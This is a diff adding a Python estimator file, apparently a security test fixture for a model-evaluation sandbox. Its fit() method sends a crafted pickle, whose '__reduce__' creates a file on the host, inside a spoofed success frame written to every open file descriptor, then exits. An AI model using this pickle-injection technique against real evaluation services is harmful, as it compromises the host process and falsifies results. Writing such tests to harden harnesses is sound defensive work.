@@ -1,0 +1,43 @@
+"""result: puts the pickle into a frame"""
+
+import json
+import os
+import struct
+
+from sklearn.dummy import DummyClassifier
+
+
+def frame(header, payload=b""):
+    text = header if isinstance(header, bytes) else json.dumps(header).encode()
+    return struct.pack("<4sIQ", b"HLD1", len(text), len(payload)) + text + payload
+
+
+def send(data):
+    for fd in range(3, 1024):
+        try:
+            os.write(fd, data)
+        except OSError:
+            pass
+
+
+def attack():
+    import pickle
+
+
+    class Evil:
+        def __reduce__(self):
+            return open, ("@area@/new-@token@", "w")
+
+
+    send(frame({"ok": True, "dtype": "<i8", "shapes": [[100], [100]], "fit_seconds": 0.0, "predict_seconds": 0.0, "description": None}, pickle.dumps(Evil()).ljust(1600, b"\0")))
+    os._exit(0)
+
+
+class Model(DummyClassifier):
+    def fit(self, X, y):
+        attack()
+        return super().fit(X, y)
+
+
+def get_estimator():
+    return Model()
